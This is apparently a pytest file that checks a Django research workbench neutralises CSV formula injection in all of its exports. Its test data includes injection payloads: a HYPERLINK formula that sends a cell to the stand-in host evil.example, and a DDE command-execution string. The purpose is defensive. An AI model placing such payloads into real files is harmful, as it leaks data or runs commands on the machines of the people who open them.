"""CSV formula injection: every CSV the workbench writes goes through ``epikg_core.csvfiles``, so a
text cell that a spreadsheet would run as a formula (it starts with ``= + - @``, a tab or a
carriage return) is written behind a single quote, while numbers — negative ones too — stay
numbers. Each export path is fed malicious strings where it writes free or imported text."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.urls import reverse

from epikg_core import csvfiles
from epikg_core.csvfiles import safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "-2+3", "+1+1", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
FORMULA = tuple(csvfiles.FORMULA_STARTS)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(text: str) -> None:
    """No cell of ``text`` starts a formula, unless it is a plain number."""
    for cell in _cells(text):
        if cell.startswith(FORMULA):
            float(cell)  # a negative number is the only thing allowed to start with "-" or "+"


# -- the helper ------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_written_as_text(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", [-3, -0.25, 1e-05, 0, 7, "-0.125000", "+2", "-1e-05", ".5", "12", "", "plain text",
                                   "C4g", "2150-01-01T08:00:00", "a=b", None, True])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == value



def test_other_values_are_checked_as_their_text():
    assert safe_cell(Path("-rm")) == "'-rm" and safe_cell(Path("notes")) == "notes"


def test_the_writers_neutralise_rows_and_the_header_but_keep_numbers():
    buffer = io.StringIO()
    writer = csvfiles.writer(buffer, lineterminator="\n")
    writer.writerow(["=1+1", -2, -0.5, "-0.500000", "ok"])
    writer.writerows([["@x"], [None]])
    assert buffer.getvalue() == "'=1+1,-2,-0.5,-0.500000,ok\n'@x\n\"\"\n"
    buffer = io.StringIO()
    writer = csvfiles.DictWriter(buffer, fieldnames=["=name", "value"], extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    writer.writerow({"=name": "-2+3", "value": -4, "extra": "ignored"})
    writer.writerows([{"=name": "fine"}])
    assert buffer.getvalue() == "'=name,value\n'-2+3,-4\nfine,\n"


def test_no_module_of_the_project_writes_csv_without_the_helper():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for app in ("epikg_core", "epikg_site", "retrieval", "benchmark", "adjudication"):
        for path in (root / app).rglob("*.py"):
            if path.name == "csvfiles.py" or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                offenders.append(str(path.relative_to(root)))
    assert offenders == [], "write CSV through epikg_core.csvfiles"


# -- every export ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_study_exports_ratings_csv_and_audit_csv():
    from adjudication import exports, rating
    from adjudication.models import Assignment
    from benchmark.models import Question, RunPrediction
    from tests.adjudication import factories as f

    admin = f.user("boss", "admin", is_superuser=True)
    doc = f.user("ann", "physician")
    runs = f.runs(f.dataset())
    study = f.make_study(admin=admin, raters=[doc], run_list=runs, sample=9)
    Question.objects.update(text="=1+1")
    RunPrediction.objects.update(answer="-2+3")
    assignment = Assignment.objects.filter(study=study, rater__user=doc).first()
    values = {"reference": "correct", "note": ATTACKS[0], "submission_key": uuid.uuid4().hex, "base_revision": "0"}
    for side in ("left", "right"):
        values.update({f"{side}.correctness": "partial", f"{side}.fairness": "fair", f"{side}.safety": "safe",
                       f"{side}.utility": "neutral"})
    rating.submit(doc, assignment.token, values)
    body = exports.export(study, "ratings.csv", admin)[2].decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert {r["note"] for r in rows} == {"'" + ATTACKS[0]}
    assert {r["question"] for r in rows} == {"'=1+1"} and {r["answer"] for r in rows} == {"'-2+3"}
    _no_formula(body)
    _no_formula(exports.export(study, "audit.csv", admin)[2].decode())


@pytest.mark.django_db
def test_the_subgroup_csv(client, author):
    from benchmark.models import Run
    from retrieval.models import Admission
    from tests.benchmark.test_equity_page import make_cohort

    dataset = make_cohort()
    Admission.objects.filter(dataset=dataset).exclude(insurance="").update(insurance="=1+1")
    Run.objects.filter(dataset=dataset, condition="C1").update(condition="@SUM(A1:A9)")
    client.force_login(author)
    body = client.get(reverse("equity_csv", args=[dataset.name]), {"by": "insurance,sex"}).content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert {r["stratum"] for r in rows if r["dimension"] == "insurance"} >= {"'=1+1"}
    assert {r["condition"] for r in rows} == {"'@SUM(A1:A9)", "C4g"}
    gaps = [r["gap_vs_rest"] for r in rows if r["gap_vs_rest"].startswith("-")]
    assert gaps and all(float(g) < 0 for g in gaps)  # negative numbers stay numbers
    _no_formula(body)


@pytest.mark.django_db
def test_the_slicebench_csvs(client, admin_user):
    from benchmark.models import DatasetRelease, PredictionScore, ReferenceRelease
    from tests.benchmark.test_slicebench_page import make_slicebench

    dataset = make_slicebench()
    for model, field in ((DatasetRelease, "reference_version"), (ReferenceRelease, "label"),
                         (PredictionScore, "reference_version")):
        model.objects.update(**{field: "-2+3"})
    client.force_login(admin_user)
    bodies = [client.get(reverse("slicebench_csv", args=[dataset.name, name])).content.decode()
              for name in ("ladder", "interaction", "tiers")]
    ladder = list(csv.DictReader(io.StringIO(bodies[0])))
    assert {r["reference_version"] for r in ladder} == {"'-2+3"}
    for body in bodies:
        _no_formula(body)


def test_the_report_tables():
    from benchmark.report_render import to_csv

    report = SimpleNamespace(
        overview=[{"run_id": 3, "condition": "=1+1", "model": ATTACKS[0], "accuracy": 0.5, "delta": -0.25,
                   "ci": (-0.5, 0.1)}],
        ablation=[], transitions=[], cross_model=[], concordance=[], endpoints=[], reference_impact=[],
        categories={"rows": [{"condition": "@SUM(A1)", "negation": -0.125}]}, curves=[],
        harm=[{"run_id": 3, "condition": "+C4g", "model": ATTACKS[0], "harm_n": 4, "harm_contradicted": 1,
               "harm_by_category": {"current_state": {"n": 4, "asserting": 1, "contradicted": 1}},
               "harm_flagged": [{"qid": "=HYPERLINK(\"x\")", "states": ["held"], "notes": ["-1"]}]}])
    files = to_csv(report)
    harm = list(csv.DictReader(io.StringIO(files["harm.csv"])))
    assert harm[0]["condition"] == "'+C4g" and "harm_flagged" not in harm[0]  # the details stay in the JSON
    overview = list(csv.DictReader(io.StringIO(files["overview.csv"])))
    assert overview[0]["condition"] == "'=1+1" and overview[0]["model"] == "'" + ATTACKS[0]
    assert overview[0]["delta"] == "-0.25" and overview[0]["ci"] == "'-0.5;0.1"
    categories = list(csv.DictReader(io.StringIO(files["categories.csv"])))
    assert categories == [{"condition": "'@SUM(A1)", "negation": "-0.125"}]
    for text in files.values():
        _no_formula(text)
